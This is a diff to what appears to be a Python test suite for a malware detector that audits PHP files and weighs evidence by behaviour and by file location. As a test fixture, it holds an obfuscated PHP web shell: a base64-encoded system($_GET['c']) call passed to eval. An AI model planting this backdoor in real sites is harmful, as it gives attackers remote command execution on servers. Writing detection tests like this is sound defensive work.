@@ -29,9 +29,9 @@ ENCODED = {
 }
 
 
-def found(content: bytes) -> Finding:
+def found(content: bytes, path: str = "page.php") -> Finding:
     """Returns what is found in a page, which must be something."""
-    finding = MALWARE.judge(AuditedFile("page.php", content), lambda: False).finding
+    finding = MALWARE.judge(AuditedFile(path, content), lambda: False).finding
     assert finding is not None
     return finding
 
@@ -77,11 +77,23 @@ def test_back_door_in_plain_sight_is_one_kind_of_evidence() -> None:
     assert not finding.may_be_acted_upon
 
 
-def test_back_door_that_is_hidden_is_two_kinds_of_evidence() -> None:
-    """What it does and that it was hidden are seen by different means."""
-    finding = found(b"<?php eval(base64_decode('" + base64.b64encode(b"system($_GET['c']);") + b"'));")
+HIDDEN = b"<?php eval(base64_decode('" + base64.b64encode(b"system($_GET['c']);") + b"'));"
+
+
+def test_back_door_that_is_hidden_is_still_one_kind_of_evidence() -> None:
+    """That it was hidden is seen by whoever read what it does: if that reader errs, both are wrong."""
+    finding = found(HIDDEN)
 
     assert {Evidence.BEHAVIOUR, Evidence.STYLE} <= {sign.evidence for sign in finding.signs}
+    assert finding.evidence == {Evidence.BEHAVIOUR}
+    assert not finding.may_be_acted_upon
+
+
+def test_back_door_where_no_script_belongs_is_two_kinds_of_evidence() -> None:
+    """What it does, and where it stands, which is seen without reading it."""
+    finding = found(HIDDEN, "wp-content/uploads/2026/11/x.php")
+
+    assert finding.evidence == {Evidence.BEHAVIOUR, Evidence.PLACE}
     assert finding.may_be_acted_upon
 
 
